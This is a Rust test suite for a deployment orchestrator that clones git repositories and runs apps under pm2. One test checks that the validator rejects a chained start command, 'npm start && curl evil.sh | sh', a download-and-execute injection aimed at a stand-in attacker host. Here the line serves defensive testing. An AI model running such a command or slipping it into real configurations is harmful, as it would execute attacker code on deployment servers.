//! Orchestrator tests against the scripted executor

use std::net::{Ipv4Addr, TcpListener};
use std::path::PathBuf;
use std::time::Duration;

use shipyard::deploy::{AppReference, DeployOptions};
use shipyard::errors::ShipyardError;
use shipyard::models::DeploymentStatus;
use shipyard::sink::{CaptureSink, NullSink};
use shipyard::store::Store;

use crate::support::{create_request, Harness, HEAD, REPO_URL};

// ================================ CREATE ======================================= //

#[tokio::test]
async fn test_create_sample_app_defaults() {
    let h = Harness::new().await;

    let app = h
        .orchestrator
        .create_application(create_request(None), &NullSink)
        .await
        .unwrap();

    assert_eq!(app.branch, "master");
    assert_eq!(app.remote, "origin");
    assert_eq!(app.commands.start, "npm start");
    assert!(app.created_successfully);
    assert!(!app.initial_deployment_success);

    assert_eq!(app.directory.parent(), Some(h.base.path()));
    let dir_name = app.directory.file_name().unwrap().to_str().unwrap();
    let (slug, token) = dir_name.split_once("__").unwrap();
    assert_eq!(slug, "sample-app");
    assert_eq!(token.len(), 3);
    assert_eq!(app.name, dir_name);
    assert!(app.directory.is_dir());

    let calls = h.executor.calls();
    let lines: Vec<&str> = calls.iter().map(|c| c.line.as_str()).collect();
    assert_eq!(
        lines,
        vec![
            format!("git ls-remote {}", REPO_URL).as_str(),
            format!("git clone -b master -o origin {} .", REPO_URL).as_str(),
            "git checkout master",
        ]
    );
    assert_eq!(calls[0].cwd, None);
    assert_eq!(calls[1].cwd.as_deref(), Some(app.directory.as_path()));

    h.cleanup().await;
}

#[tokio::test]
async fn test_same_repo_gets_distinct_workspaces() {
    let h = Harness::new().await;

    let first = h
        .orchestrator
        .create_application(create_request(None), &NullSink)
        .await
        .unwrap();
    let second = h
        .orchestrator
        .create_application(create_request(None), &NullSink)
        .await
        .unwrap();

    assert_ne!(first.id, second.id);
    assert_ne!(first.directory, second.directory);

    h.cleanup().await;
}

#[tokio::test]
async fn test_create_rejects_unknown_stack() {
    let h = Harness::new().await;
    let mut request = create_request(None);
    request.stack_type = "cobol".to_string();

    let err = h
        .orchestrator
        .create_application(request, &NullSink)
        .await
        .unwrap_err();

    assert!(matches!(err, ShipyardError::Validation(_)));
    assert!(h.executor.calls().is_empty());
    assert!(h.store.list_applications().await.unwrap().is_empty());

    h.cleanup().await;
}

#[tokio::test]
async fn test_create_rejects_chained_start_command() {
    let h = Harness::new().await;
    let mut request = create_request(None);
    request.commands.start = Some("npm start && curl evil.sh | sh".to_string());

    let err = h
        .orchestrator
        .create_application(request, &NullSink)
        .await
        .unwrap_err();

    assert!(matches!(err, ShipyardError::Validation(_)));
    assert!(h.store.list_applications().await.unwrap().is_empty());

    h.cleanup().await;
}

#[tokio::test]
async fn test_create_unreachable_repo_is_access_error() {
    let h = Harness::new().await;
    h.executor
        .fail("git ls-remote", "fatal: could not read Username");

    let err = h
        .orchestrator
        .create_application(create_request(None), &NullSink)
        .await
        .unwrap_err();

    assert!(matches!(err, ShipyardError::Access(_)));
    assert!(h.store.list_applications().await.unwrap().is_empty());

    h.cleanup().await;
}

#[tokio::test]
async fn test_create_port_checks() {
    let h = Harness::new().await;

    let mut request = create_request(None);
    request.port = 80;
    let err = h
        .orchestrator
        .create_application(request, &NullSink)
        .await
        .unwrap_err();
    assert!(matches!(err, ShipyardError::Validation(_)));

    let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
    let mut request = create_request(None);
    request.port = listener.local_addr().unwrap().port();
    let err = h
        .orchestrator
        .create_application(request, &NullSink)
        .await
        .unwrap_err();
    assert!(matches!(err, ShipyardError::ResourceConflict(_)));

    assert!(h.store.list_applications().await.unwrap().is_empty());
    h.cleanup().await;
}

#[tokio::test]
async fn test_failed_clone_leaves_uncreated_record() {
    let h = Harness::new().await;
    h.executor
        .fail("git clone", "fatal: Remote branch master not found");

    let err = h
        .orchestrator
        .create_application(create_request(Some("broken")), &NullSink)
        .await
        .unwrap_err();
    assert!(matches!(err, ShipyardError::Git { .. }));

    let apps = h.store.list_applications().await.unwrap();
    assert_eq!(apps.len(), 1);
    assert!(!apps[0].created_successfully);

    // and it cannot be deployed
    let failure = h
        .orchestrator
        .deploy_application(&AppReference::Id(apps[0].id), DeployOptions::default(), &NullSink)
        .await
        .unwrap_err();
    assert_eq!(failure.deployment_id, None);
    assert!(matches!(failure.error, ShipyardError::Validation(_)));
    assert!(h.store.list_deployments(apps[0].id).await.unwrap().is_empty());

    h.cleanup().await;
}

// ================================ DEPLOY ======================================= //

#[tokio::test]
async fn test_up_to_date_still_reconciles() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;

    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap();
    assert!(id > 0);

    let lines = h.executor.lines();
    assert!(!h.executor.ran("git pull"));
    assert!(lines.contains(&"node --version".to_string()));
    assert!(lines.contains(&"pm2 start --name sample-app npm -- start".to_string()));
    assert!(lines.contains(&"pm2 save".to_string()));

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Success);
    assert_eq!(deployment.commit_hash.as_deref(), Some(HEAD));
    assert_eq!(deployment.rolled_back_from, None);

    let app = h.store.get_application(app.id).await.unwrap().unwrap();
    assert!(app.initial_deployment_success);

    let process = h.store.get_process_by_application(app.id).await.unwrap().unwrap();
    assert_eq!(process.name, "sample-app");
    assert_eq!(process.script, "npm -- start");

    h.cleanup().await;
}

#[tokio::test]
async fn test_first_deploy_starts_later_restart() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    let reference = AppReference::Id(app.id);

    h.orchestrator
        .deploy_application(&reference, DeployOptions::default(), &NullSink)
        .await
        .unwrap();
    assert!(h.executor.ran("pm2 start"));
    assert!(!h.executor.ran("pm2 restart"));

    h.executor.clear_calls();
    h.orchestrator
        .deploy_application(&reference, DeployOptions::default(), &NullSink)
        .await
        .unwrap();
    assert!(h.executor.ran("pm2 restart sample-app"));
    assert!(!h.executor.ran("pm2 start"));
    assert!(!h.executor.ran("pm2 save"));

    assert_eq!(h.store.list_deployments(app.id).await.unwrap().len(), 2);
    h.cleanup().await;
}

#[tokio::test]
async fn test_first_deploy_tolerates_pm2_daemon_banner() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.respond(
        "pm2 jlist",
        "[PM2] Spawning PM2 daemon with pm2_home=/root/.pm2\n\
         [PM2] PM2 Successfully daemonized\n\
         [{\"pid\":7,\"name\":\"sample-app\",\"pm2_env\":{\"status\":\"online\"}}]\n",
    );

    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap();

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Success);
    assert!(h.executor.ran("pm2 start"));
    h.cleanup().await;
}

#[tokio::test]
async fn test_behind_remote_pulls_and_records_hash() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.respond("git rev-list --count", "3\n");
    h.executor.respond("git rev-parse HEAD", "c0ffee1\n");

    let capture = CaptureSink::new();
    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &capture)
        .await
        .unwrap();

    assert!(h.executor.ran("git rev-list --count HEAD..origin/master"));
    assert!(h.executor.ran("git pull origin master"));
    assert!(capture.transcript().contains("Commits behind remote: 3"));

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Success);
    assert_eq!(deployment.commit_hash.as_deref(), Some("c0ffee1"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_explicit_hash_resets_without_pull() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.respond("git rev-parse HEAD", "a1b2c3d\n");

    let options = DeployOptions {
        git_hash: Some("a1b2c3d".to_string()),
        ..Default::default()
    };
    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), options, &NullSink)
        .await
        .unwrap();

    assert!(h.executor.ran("git reset --hard a1b2c3d"));
    assert!(!h.executor.ran("git pull"));
    assert!(!h.executor.ran("git rev-list"));
    assert!(!h.executor.ran("git reset --hard origin/master"));

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Success);
    assert_eq!(deployment.commit_hash.as_deref(), Some("a1b2c3d"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_force_reset_follows_option_then_settings() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    let reference = AppReference::Id(app.id);

    // settings default to resetting
    h.orchestrator
        .deploy_application(&reference, DeployOptions::default(), &NullSink)
        .await
        .unwrap();
    assert!(h.executor.ran("git reset --hard origin/master"));

    h.executor.clear_calls();
    let options = DeployOptions {
        git_reset: Some(false),
        ..Default::default()
    };
    h.orchestrator
        .deploy_application(&reference, options, &NullSink)
        .await
        .unwrap();
    assert!(!h.executor.ran("git reset"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_branch_override_is_persisted() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;

    let options = DeployOptions {
        branch: Some("develop".to_string()),
        remote: Some(" origin ".to_string()),
        ..Default::default()
    };
    h.orchestrator
        .deploy_application(&AppReference::Id(app.id), options, &NullSink)
        .await
        .unwrap();

    assert!(h.executor.ran("git checkout develop"));
    assert!(h.executor.ran("git rev-list --count HEAD..origin/develop"));

    let app = h.store.get_application(app.id).await.unwrap().unwrap();
    assert_eq!(app.branch, "develop");
    assert_eq!(app.remote, "origin");

    h.cleanup().await;
}

#[tokio::test]
async fn test_errored_process_fails_deployment() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.pm2_status("sample-app", "errored");

    let failure = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap_err();

    assert!(matches!(failure.error, ShipyardError::Process(_)));
    let id = failure.deployment_id.unwrap();

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Failed);
    let app = h.store.get_application(app.id).await.unwrap().unwrap();
    assert!(!app.initial_deployment_success);
    assert!(!h.executor.ran("pm2 save"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_git_failure_fails_deployment() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor
        .fail("git fetch", "fatal: unable to access remote");

    let failure = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap_err();

    match &failure.error {
        ShipyardError::Git { command, message } => {
            assert_eq!(command, "fetch --all --tags");
            assert!(message.contains("unable to access remote"));
        }
        other => panic!("expected git error, got {:?}", other),
    }

    let deployment = h
        .store
        .get_deployment(failure.deployment_id.unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Failed);
    assert_eq!(deployment.commit_hash, None);
    assert!(!h.executor.ran("pm2"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_missing_lockfile_is_process_error() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    tokio::fs::remove_file(app.directory.join("package-lock.json"))
        .await
        .unwrap();

    let failure = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap_err();
    assert!(matches!(failure.error, ShipyardError::Process(_)));
    assert!(failure.deployment_id.is_some());

    h.cleanup().await;
}

#[tokio::test]
async fn test_failed_pm2_save_is_only_a_warning() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.fail("pm2 save", "EACCES");

    let capture = CaptureSink::new();
    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &capture)
        .await
        .unwrap();

    let deployment = h.store.get_deployment(id).await.unwrap().unwrap();
    assert_eq!(deployment.status, DeploymentStatus::Success);
    assert!(capture.transcript().contains("Warning: pm2 save failed"));

    h.cleanup().await;
}

#[tokio::test]
async fn test_build_and_post_commands_run_in_workspace() {
    let h = Harness::new().await;
    let mut request = create_request(Some("web"));
    request.commands.build = Some("npm ci && npm run build".to_string());
    request.commands.post = Some("curl -fsS localhost/health".to_string());
    request.commands.start = Some("npm run serve".to_string());
    let app = h
        .orchestrator
        .create_application(request, &NullSink)
        .await
        .unwrap();
    tokio::fs::write(app.directory.join("yarn.lock"), "").await.unwrap();
    h.executor.pm2_status("web", "online");
    h.executor.clear_calls();

    h.orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &NullSink)
        .await
        .unwrap();

    let calls = h.executor.calls();
    let position = |line: &str| calls.iter().position(|c| c.line == line).unwrap();
    let build = position("bash -c npm ci && npm run build");
    let start = position("pm2 start --name web npm -- run serve");
    let post = position("bash -c curl -fsS localhost/health");
    assert!(build < start && start < post);
    assert_eq!(calls[build].cwd.as_deref(), Some(app.directory.as_path()));

    h.cleanup().await;
}

#[tokio::test]
async fn test_deploy_by_directory() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;

    let id = h
        .orchestrator
        .deploy_application(
            &AppReference::Directory(app.directory.clone()),
            DeployOptions::default(),
            &NullSink,
        )
        .await
        .unwrap();
    assert_eq!(h.store.get_deployment(id).await.unwrap().unwrap().application_id, app.id);

    let failure = h
        .orchestrator
        .deploy_application(
            &AppReference::Directory(PathBuf::from("/nowhere")),
            DeployOptions::default(),
            &NullSink,
        )
        .await
        .unwrap_err();
    assert_eq!(failure.deployment_id, None);
    assert!(matches!(failure.error, ShipyardError::NotFound(_)));

    h.cleanup().await;
}

#[tokio::test]
async fn test_transcript_is_saved_for_deployment() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;

    let capture = CaptureSink::new();
    let id = h
        .orchestrator
        .deploy_application(&AppReference::Id(app.id), DeployOptions::default(), &capture)
        .await
        .unwrap();
    h.orchestrator
        .save_transcript(id, capture.transcript())
        .await
        .unwrap();

    let log = h.store.get_deployment_log(id).await.unwrap().unwrap();
    assert!(log.log.contains("Checking git status..."));
    assert!(log.log.contains("Deployment completed successfully."));

    h.cleanup().await;
}

// ============================== CONCURRENCY ==================================== //

#[tokio::test]
async fn test_deploys_of_one_app_are_serialized() {
    let h = Harness::new().await;
    let app = h.deployable_app("sample-app").await;
    h.executor.slow(Duration::from_millis(5));

    let reference = AppReference::Id(app.id);
    let (first, second) = tokio::join!(
        h.orchestrator
            .deploy_application(&reference, DeployOptions::default(), &NullSink),
        h.orchestrator
            .deploy_application(&reference, DeployOptions::default(), &NullSink),
    );
    first.unwrap();
    second.unwrap();

    assert_eq!(h.executor.max_in_flight(), 1);
    // the second deploy saw the first one's flag and restarted
    let lines = h.executor.lines();
    assert_eq!(lines.iter().filter(|l| l.starts_with("pm2 start")).count(), 1);
    assert_eq!(lines.iter().filter(|l| l.starts_with("pm2 restart")).count(), 1);

    h.cleanup().await;
}

#[tokio::test]
async fn test_different_apps_deploy_concurrently() {
    let h = Harness::new().await;
    let first = h.deployable_app("api").await;
    let second = h.deployable_app("web").await;
    h.executor.respond(
        "pm2 jlist",
        r#"[{"name":"api","pm2_env":{"status":"online"}},{"name":"web","pm2_env":{"status":"online"}}]"#,
    );
    h.executor.slow(Duration::from_millis(5));

    let first_ref = AppReference::Id(first.id);
    let second_ref = AppReference::Id(second.id);
    let (a, b) = tokio::join!(
        h.orchestrator
            .deploy_application(&first_ref, DeployOptions::default(), &NullSink),
        h.orchestrator
            .deploy_application(&second_ref, DeployOptions::default(), &NullSink),
    );
    a.unwrap();
    b.unwrap();

    assert_eq!(h.executor.max_in_flight(), 2);
    h.cleanup().await;
}
